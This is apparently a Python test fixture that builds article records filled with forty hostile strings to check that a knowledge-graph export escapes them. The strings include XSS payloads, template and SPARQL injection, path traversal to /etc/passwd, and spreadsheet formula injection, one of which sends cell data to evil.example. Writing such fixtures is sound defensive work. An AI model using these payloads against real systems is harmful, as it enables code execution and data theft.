"""Forty headlines that mean harm, and articles in which they stand wherever words can stand.

Each is what some reader of an export has once stumbled over: markup, the ends of every kind of string, formulas,
characters that no XML holds, text that turns around, names of files and of other people's templates. What a script
would do if it ran is the same everywhere: it sets ``window.hurt``, and asks for a page that no one serves.
"""

from __future__ import annotations

from datetime import date

from kg.model import (
    Act,
    Actor,
    ActorKind,
    Article,
    Block,
    BlockKind,
    Condition,
    Evidence,
    Extraction,
    Position,
    Proposal,
    Relation,
    Span,
    Stance,
)
from kg.model.record import ArticleRecord

HURT = "window.hurt=1,fetch('/hurt'),alert(1)"
HEADLINES = (
    f"<script>{HURT}</script>",
    f"</title></style></textarea></script><script>{HURT}</script>",
    f'"><img src=x onerror="{HURT}">',
    f"'><svg onload='{HURT}'>",
    f"<svg><script>{HURT}</script></svg>",
    f"--><script>{HURT}</script><!--",
    f"--!><img src=x onerror={HURT}>",
    f"]]><script xmlns='http://www.w3.org/1999/xhtml'>{HURT}</script><![CDATA[",
    f"javascript:{HURT}",
    f" \tJAVA&#x09;SCRIPT:{HURT}",
    f"https://news.example/'onmouseover='{HURT}' x='",
    f'https://news.example/"onfocus="{HURT}"autofocus tabindex="1',
    f"data:text/html,<script>{HURT}</script>",
    f"http://news.example/><script>{HURT}</script>",
    f'<iframe srcdoc="<script>parent.{HURT}</script>">',
    f"<body onload={HURT}><base href=//evil.example/><meta http-equiv=refresh content='0;url=/hurt'>",
    f"<link rel=stylesheet href=/hurt><style>@import '/hurt';</style><details open ontoggle={HURT}>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={HURT}>",
    f"<noscript><p title='</noscript><img src=x onerror={HURT}>'>",
    f"${{{HURT}}} {{{{constructor.constructor('{HURT}')()}}}} #{{7*7}} <%= 7*7 %>",
    f"\\u003cscript\\u003e{HURT}\\u003c/script\\u003e",
    f"&lt;script&gt;{HURT}&lt;/script&gt; &amp;amp; &#x3c;",
    f"+ADw-script+AD4-{HURT}+ADw-/script+AD4-",
    f"\u2028{HURT}\u2029//",
    f"';{HURT};//\\';{HURT};//\";{HURT};//`;{HURT};//",
    f"\x00<scr\x00ipt>{HURT}</scr\x00ipt>\x01\x08\x0b\x1b[31m\x1b]0;hurt\x07",
    "\u202etxt.noitaitogen\u202c \u2066gnp\u2069 \u200e\u200f\ufeff\u200b\u00ad\u061c",
    "Z\u0335\u0321\u0327\u0322" + "\u0353\u0300\u0489" * 60 + "algo",
    "\ufffe\uffff\ufdd0\U0001fffe\U0010ffff\x7f\x80\x85\x9f",
    "\"\"\" '' ''' \\\" \\\\ \\n {} ; . # @en ^^xsd:int <urn:x> _:b",
    "urn:a> <b> \"c\" . } INSERT DATA { <urn:hurt> a <urn:hurt> } #",
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"talks\")",
    "=cmd|' /C calc'!A0",
    "+1+1|@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3;=1+1\t=1+1\r\n=1+1",
    "@SUM(A1:A9),\"quoted\",\n\"next line\",",
    "../../../../etc/passwd\\..\\..\\con.txt %2e%2e%2f %00 ?#",
    "*Vertices 1\r\n1 \"x\"\r\n*Arcs\r\ndl n=1 labels: data: \\l\\N\\G <b>]>",
    "“quoted” ‘quoted’ «quoted» „quoted‟ ‹quoted› 「quoted」 \"quoted\" 'quoted' `quoted´ ″″",
    "word" * 2_000 + " " + "e\u0301" * 500 + "\U0001f54a\ufe0f\u200d" * 50,
)  # fmt: skip

NAMES = tuple(headline[:600] for headline in HEADLINES)
"""The headlines as names of parties and proposals, which nobody writes over pages."""


def hostile_record(number: int) -> ArticleRecord:
    """An article whose title, source, publisher, parties, proposals and quotations are headline ``number``."""
    headline, name, other = HEADLINES[number], NAMES[number], NAMES[(number + 1) % len(NAMES)]
    opening, terms, rejection = f"{headline} {headline}", f"back it if {headline}", f"reject {headline}"
    text = "\n\n".join((headline, opening, terms, rejection))
    article = Article(
        text=text,
        source=headline,
        blocks=_blocks(headline, opening, terms, rejection),
        title=headline,
        published=date(2025, 3, 1 + number % 28),
        publisher=headline,
    )

    def words(at: str) -> Evidence:
        start = text.index(at, len(headline))
        return Evidence.of(article, Span(start=start, end=start + len(at)))

    party = Actor(name=name, kind=ActorKind.ORGANIZATION, wording=headline)
    rival = Actor(name=other, kind=ActorKind.PERSON, wording=name)
    at_issue = Proposal(label=name, wording=headline, broader=(other,))
    elsewhere = Proposal(label=other, wording=other)
    positions = (
        Position(holder=party, side=party, stance=Stance.SUPPORTS, proposal=at_issue, evidence=words(opening),
                 act=Act.SUPPORTS, speakers=(rival,), rule=headline, published=article.published),
        Position(holder=party, stance=Stance.SUPPORTS, proposal=elsewhere, evidence=words(opening),
                 act=Act.WELCOMES, published=article.published),
        Position(holder=rival, side=party, stance=Stance.CONDITIONS_ON, proposal=at_issue, evidence=words(terms),
                 act=Act.CONDITIONS, published=article.published,
                 conditions=(Condition(proposal=elsewhere, relation=Relation.IF, evidence=words(terms)),)),
        Position(holder=rival, stance=Stance.OPPOSES, proposal=at_issue, evidence=words(rejection), act=Act.REJECTS,
                 published=article.published),
    )  # fmt: skip
    run = Extraction(software=headline, version=headline, model=headline)
    return ArticleRecord(article=article, positions=positions, extraction=run)


def hostile_records() -> tuple[ArticleRecord, ...]:
    """One article for each headline."""
    return tuple(hostile_record(number) for number in range(len(HEADLINES)))


def _blocks(*paragraphs: str) -> tuple[Block, ...]:
    blocks, at = [], 0
    for paragraph in paragraphs:
        kind = BlockKind.PARAGRAPH if at else BlockKind.HEADLINE
        blocks.append(Block(kind=kind, span=Span(start=at, end=at + len(paragraph))))
        at += len(paragraph) + 2
    return tuple(blocks)
